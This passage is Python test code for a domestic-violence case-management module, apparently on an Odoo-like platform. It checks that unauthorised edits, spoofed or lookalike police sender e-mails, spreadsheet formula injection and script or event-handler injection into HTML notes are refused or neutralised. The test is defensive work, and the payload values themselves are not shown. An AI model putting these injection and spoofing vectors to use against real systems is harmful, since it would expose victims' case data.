                "case_id": f.f["case_new"],
                "name": "Testperson Zahl",
                "age_estimate": "zehn",
            },
        ),
        error="ValueError",
        german="zehn",
    ),
    Row(
        "missing_name",
        "a person without a name",
        "caseworker",
        create("dv.person", lambda f: {"case_id": f.f["case_new"], "role": "other"}),
        error="ValidationError",
        german="Pflichtfeld",
    ),
    Row(
        "missing_record",
        "writing to a case that does not exist",
        "caseworker",
        lambda u, f: u["caseworker"].call(
            "dv.case", "write", [987654321], {"kind": "family"}
        ),
        error="MissingError",
        german="dv.case(987654321,)",
    ),
    # Referrals: entered for one's own agency; linked to a case, and joined
    # to a proposed one, only by the application; the source of an e-mailed
    # one is its registered sender.
    Row(
        "referral_for_other_agency",
        "a referral entered for an agency one is no member of",
        "caseworker",
        create("dv.referral", lambda f: f.inbound(to_agency_id=f.neighbour)),
        error="AccessError",
        german="deren Mitglied Sie sind",
    ),
    Row(
        "referral_case_written",
        "linking a referral to a case by writing its case",
        "caseworker",
        write("dv.referral", "referral_open", lambda f: {"case_id": f.f["case_new"]}),
        error="ValidationError",
        german=SET_BY_APPLICATION,
        watch=watch("dv_referral", "referral_open"),
    ),
    Row(
        "referral_office_changed",
        "moving a referral to another receiving agency",
        "caseworker",
        write("dv.referral", "referral_open", lambda f: {"to_agency_id": f.neighbour}),
        error="ValidationError",
        german=SET_BY_APPLICATION,
        watch=watch("dv_referral", "referral_open"),
    ),
    Row(
        "mailed_referral_source_changed",
        "another police unit as the source of an e-mailed referral",
        "caseworker",
        write(
            "dv.referral", "referral_mailed", lambda f: {"from_agency_id": f.police_b}
        ),
        error="ValidationError",
        german="eingetragene Absender ihrer E-Mail",
        watch=watch("dv_referral", "referral_mailed"),
    ),
    Row(
        "join_without_proposal",
        "joining a referral to a case when none was proposed",
        "caseworker",
        method("dv.referral", "referral_open", "action_join_case"),
        error="UserError",
        german="steht keine Entscheidung",
        watch=watch("dv_referral", "referral_open"),
    ),
    # Members and agencies: changed by managers and the agency's own
    # coordinators; the registered senders by the office's coordinators.
    Row(
        "member_added_by_caseworker",
        "a case worker making herself a member of another agency",
        "caseworker",
        create(
            "dv.agency.member",
            lambda f: {"agency_id": f.neighbour, "user_id": f.worker},
        ),
        error="AccessError",
        german="Mitglieder ändern",
    ),
    Row(
        "member_added_by_other_coordinator",
        "the office's coordinator making herself a member of another agency",
        "coordinator",
        lambda u, f: u["coordinator"].call(
            "dv.agency.member",
            "create",
            {"agency_id": f.neighbour, "user_id": f.coordinator},
        ),
        error="AccessError",
        german="Mitglieder ändern",
    ),
    Row(
        "member_removed_by_other_coordinator",
        "the office's coordinator removing a member of another agency",
        "coordinator",
        method("dv.agency.member", "partner_member", "unlink", user="coordinator"),
        error="AccessError",
        german="Mitglieder ändern",
        watch=watch("dv_agency_member", "partner_member"),
    ),
    Row(
        "agency_changed_by_other_coordinator",
        "the office's coordinator renaming another agency",
        "coordinator",
        lambda u, f: u["coordinator"].call(
            "dv.agency", "write", [f.neighbour], {"name": "Übernommen"}
        ),
        error="AccessError",
        german="können sie ändern",
        watch=lambda f: ("dv_agency", [f.neighbour]),
    ),
    Row(
        "police_email_changed_by_coordinator",
        "the office's coordinator giving the police unit her own address",
        "coordinator",
        lambda u, f: u["coordinator"].call(
            "dv.agency", "write", [f.police], {"email": "fremd@unbekannt.example"}
        ),
        error="AccessError",
        german="können sie ändern",
        watch=lambda f: ("res_partner", [f.setup["police_partner"]]),
    ),
    Row(
        "police_contact_changed_in_address_book",
        "the police unit's address changed through the address book",
        "coordinator",
        lambda u, f: u["coordinator"].call(
            "res.partner",
            "write",
            [f.setup["police_partner"]],
            {"email": "fremd@unbekannt.example"},
        ),
        error="AccessError",
        german="können sie ändern",
        watch=lambda f: ("res_partner", [f.setup["police_partner"]]),
    ),
    Row(
        "sender_registered_by_caseworker",
        "a case worker registering a sender of referrals",
        "caseworker",
        create(
            "dv.intake.sender",
            lambda f: {"office_id": f.office, "email": "fremd@unbekannt.example"},
        ),
        error="AccessError",
        german="(dv.intake.sender) zu erstellen",
    ),
    Row(
        "sender_not_an_address",
        "a registered sender that is no e-mail address",
        "coordinator",
        lambda u, f: u["coordinator"].call(
            "dv.intake.sender",
            "create",
            {"office_id": f.office, "email": "Leitstelle ohne Adresse"},
        ),
        error="ValidationError",
        german="gültige E-Mail-Adresse",
    ),
    Row(
        "sender_unit_not_police",
        "a registered sender writing for an agency that is no police unit",
        "coordinator",
        lambda u, f: u["coordinator"].call(
            "dv.intake.sender",
            "create",
            {
                "office_id": f.office,
                "email": "beratung@lastdorf.example",
                "police_agency_id": f.counselling,
            },
        ),
        error="ValidationError",
        german="Polizeidienststelle",
    ),
    # E-mail at the intake alias
    # Only registered senders' e-mail becomes a referral: from anybody else
    # it creates nothing, and the sender gets a notice (the bounce).
    Row(
        "mail_unknown_sender",
        "referral e-mail from an unregistered sender",
        "mailgate",
        deliver(lambda f: f.mail("BAD-MAIL-UNKNOWN", sender="fremd@unbekannt.example")),
        expect="neutralised",
        check=check_not_taken("BAD-MAIL-UNKNOWN", bounce_to="fremd@unbekannt.example"),
        grows=("mail_mail", "mail_message"),
    ),
    Row(
        "mail_other_company_police",
        "referral e-mail from the police unit of another company",
        "mailgate",
        deliver(lambda f: f.mail("BAD-MAIL-OTHERCO", sender=plan.OTHER_POLICE_EMAIL)),
        expect="neutralised",
        check=check_not_taken("BAD-MAIL-OTHERCO", bounce_to=plan.OTHER_POLICE_EMAIL),
        grows=("mail_mail", "mail_message"),
    ),
    Row(
        "mail_lookalike_sender",
        "referral e-mail from an address that only looks like the police's",
        "mailgate",
        deliver(lambda f: f.mail("BAD-MAIL-LOOKALIKE", sender=plan.LOOKALIKE_EMAIL)),
        expect="neutralised",
        check=check_not_taken("BAD-MAIL-LOOKALIKE", bounce_to=plan.LOOKALIKE_EMAIL),
        grows=("mail_mail", "mail_message"),
    ),
    Row(
        "mail_sender_no_address",
        "referral e-mail whose sender is no address",
        "mailgate",
        deliver(lambda f: f.mail("BAD-MAIL-NOADDR", sender="Leitstelle ohne Adresse")),
        expect="neutralised",
        check=check_not_taken("BAD-MAIL-NOADDR"),
        grows=("mail_mail", "mail_message"),
    ),
    Row(
        "mail_unit_in_body",
        "a registered sender's e-mail naming another police unit as its sender",
        "mailgate",
        deliver(
            lambda f: f.mail("BAD-MAIL-UNIT", sender=plan.LISTED_EMAIL).replace(
                "Aktenzeichen:",
                "Dienststelle: Polizeidirektion Lastland\nAktenzeichen:",
            )
        ),
        expect="neutralised",
        check=check_source("BAD-MAIL-UNIT"),
        grows=MAIL_GROWS,
    ),
    Row(
        "mail_repeat_proposed",
        "an e-mail about the victim of a case: proposed, nothing goes into the case",
        "mailgate",
        deliver(lambda f: f.mail("BAD-MAIL-REPEAT", victim=f.f["mail_marker"])),
        expect="neutralised",
        check=check_proposed("BAD-MAIL-REPEAT"),
        grows=MAIL_GROWS,
    ),
    Row(
        "mail_unknown_alias",
        "referral e-mail to an address that is no alias",
        "mailgate",
        deliver(lambda f: f.mail("BAD-MAIL-ALIAS", to="niemand@lastdorf.example")),
        error="ValueError",
        german="No possible route found",
    ),
    Row(
        "mail_not_a_mail",
        "text that is no e-mail at all",
        "mailgate",
        deliver(lambda f: "Bitte zurückrufen, dringend!"),
        error="ValueError",
        german="No possible route found",
    ),
    Row(
        "mail_sent_twice",
        "the same e-mail delivered twice",
        "mailgate",
        deliver_twice("BAD-MAIL-TWICE"),
        expect="neutralised",
        check=check_once("BAD-MAIL-TWICE"),
        grows=MAIL_GROWS,
    ),
    Row(
        "mail_garbage_body",
        "an e-mail from the police with nothing readable",
        "mailgate",
        deliver(lambda f: f.mail("BAD-MAIL-GARBAGE", body="<<<>>> ??? %%% ")),
        expect="neutralised",
        check=check_for_completion("BAD-MAIL-GARBAGE", has_case=False),
        grows=MAIL_GROWS,
    ),
    Row(
        "mail_incident_in_future",
        "an e-mail with an incident in 2099",
        "mailgate",
        deliver(
            lambda f: f.mail("BAD-MAIL-FUTURE").replace(
                "Tatzeit: ", "Tatzeit: 01.01.2099 #"
            )
        ),
        expect="neutralised",
        check=check_for_completion("BAD-MAIL-FUTURE"),
        grows=MAIL_GROWS,
    ),
    Row(
        "mail_overlong_reference",
        "an e-mail with a police reference of 3,000 characters",
        "mailgate",
        deliver(
            lambda f: f.mail("BAD-MAIL-LONG").replace(
                "Aktenzeichen: BAD-MAIL-LONG",
                "Aktenzeichen: "
                + "".join(chr(0x4E00 + (i * 7919) % 20000) for i in range(3000)),
            )
        ),
        expect="neutralised",
        check=check_for_completion("BAD-MAIL-LONG"),
        grows=MAIL_GROWS,
    ),
    # Formulas in fields that end up in xlsx
    Row(
        "formula_in_statistics",
        "an agency named like a formula, in the statistics workbook",
        "manager",
        formula_in_statistics,
        expect="neutralised",
        check=check_formula,
        grows=(
            "dv_agency",
            "dv_statistics_wizard",
            "dv_agency_dv_statistics_wizard_rel",
            "dv_statistics_wizard_res_company_rel",
            "mail_message",
            "mail_alias",
        ),
    ),
    Row(
        "formula_in_list_export",
        "a police reference like a formula, in the Excel list export",
        "caseworker",
        formula_in_list_export,
        expect="neutralised",
        check=check_exported,
        grows=(
            "dv_referral",
            "dv_case",
            "dv_person",
            "dv_access_log",
            "mail_message",
            "mail_activity",
        ),
    ),
    # HTML and script
    Row(
        "script_in_safety_plan",
        "script and event handler in the safety plan (HTML)",
        "caseworker",
        write(
            "dv.case",
            "case_progress",
            lambda f: {"safety_plan": f"<p>Plan</p>{SCRIPT}"},
        ),
        expect="neutralised",
        check=check_safety_plan,
    ),
    Row(
        "script_in_note",
        "script in a chatter note",
        "caseworker",
        lambda u, f: u["caseworker"].call(
            "dv.case",
            "message_post",
            [f.f["case_progress"]],
            body=SCRIPT,
            message_type="comment",
            subtype_xmlid="mail.mt_note",
        ),
        expect="neutralised",
        check=check_note,
        grows=("mail_message",),
    ),
    Row(
        "script_in_conference_note",
        "script in the general notes of a conference (HTML)",
        "manager",
        write(
            "dv.conference",
            "conference",
            lambda f: {"note": f"<p>Notiz</p>{SCRIPT}"},
            user="manager",
        ),
        expect="neutralised",
        check=check_conference_note,
    ),
    Row(
        "script_in_minutes",
        "script in the decisions of the minutes (text)",
        "manager",
        minutes_with_script,
        expect="neutralised",
        check=check_minutes,
        grows=("dv_conference_case",),
    ),
)

# Tables whose row counts show whether a refused input left something behind.
EXTRA_TABLES = (
    "mail_message",
    "mail_mail",
    "mail_activity",
    "ir_attachment",
    "calendar_event",
    "mail_alias",
)


def _counts(sql, tables):
    union = " UNION ALL ".join(f"SELECT '{t}', count(*) FROM \"{t}\"" for t in tables)
    return dict(sql(union))


def _snapshot(sql, target):
    if not target:
        return None
    table, ids = target
    return sql(
        f'SELECT row_to_json(t)::text FROM "{table}" t WHERE id = ANY(%s) ORDER BY id',
        [ids],
    )


def evaluate(row, result, error):
    """None when the row behaved as expected, else what went wrong (the
    neutralisation check is separate)."""
    if row.expect == "refused":
        if error is None:
            return "accepted"
        if error.kind != "refused" or not error.name.endswith(row.error):
            return f"wrong error {error.name}: {error.message[:100]}"
        if row.german and row.german not in error.message:
            return f"unclear message: {error.message[:100]}"
        return None
    if error is not None:
        return f"error {error.name}: {error.message[:100]}"
    return None


def run_table(url, db, setup, sql):
    """Run every row; returns counts and report lines."""
    helpers = setup["helpers"]
    users = {
        key: Client(url, db, helpers[login]["login"], helpers[login]["password"])
        for key, login in (
            ("caseworker", "helper_caseworker"),
            ("coordinator", "helper_coordinator"),
            ("manager", "helper_manager"),
            ("mailgate", "helper_mailgate"),
        )
    }
    fixtures = Fixtures(setup)
    tables = [
        row[0]
        for row in sql(
            "SELECT table_name FROM information_schema.tables "
            "WHERE table_schema = 'public' AND table_type = 'BASE TABLE' "
            "AND table_name LIKE 'dv\\_%%'"
        )
    ] + list(EXTRA_TABLES)
    report, refused, neutralised, accepted = [], 0, 0, 0
    for row in ROWS:
        before = _counts(sql, tables)
        target = row.watch(fixtures) if row.watch else None
        watched = _snapshot(sql, target)
        result = error = None
        try:
            result = row.action(users, fixtures)
        except RpcError as exc:
            error = exc
        problem = evaluate(row, result, error)
        if problem is None and row.expect == "neutralised":
            problem = row.check(fixtures, result, sql)
        after = _counts(sql, tables)
        grown = sorted(
            t for t in tables if after[t] != before[t] and t not in row.grows
        )
        if problem is None and grown:
            problem = f"left rows behind in {', '.join(grown)}"
        if problem is None and _snapshot(sql, target) != watched:
            problem = f"changed {target[0]} {target[1]}"
        if problem is None and row.expect == "refused":
            refused += 1
            shown = error.message.splitlines()[0][:110]
            kind = error.name.rsplit(".", 1)[-1]
            report.append(f"  bad input ok   {row.key}: refused ({kind}) {shown}")
        elif problem is None:
            neutralised += 1
            report.append(f"  bad input ok   {row.key}: accepted and neutralised")
        else:
            accepted += 1
            report.append(f"  bad input FAIL {row.key}: {problem}")
    return {
        "total": len(ROWS),
        "refused": refused,
        "neutralised": neutralised,
        "accepted": accepted,
        "report": report,
    }
